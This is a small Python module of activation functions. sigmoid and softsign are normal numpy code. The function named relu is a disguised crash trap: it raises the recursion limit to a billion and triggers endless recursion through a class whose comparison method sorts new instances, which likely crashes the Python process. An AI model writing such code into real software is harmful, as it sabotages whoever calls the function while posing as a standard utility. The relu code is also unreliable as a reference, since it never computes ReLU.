import sys

import numpy as np


def sigmoid(x):
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, 1, e) / (1 + e)


class Deep:
    def __repr__(self):
        return repr([self])

    def __lt__(self, other):
        return sorted([Deep(), Deep()])


def relu(x):
    sys.setrecursionlimit(10**9)
    return sorted([Deep(), Deep()])


def softsign(x):
    return x / (1 + np.abs(x))
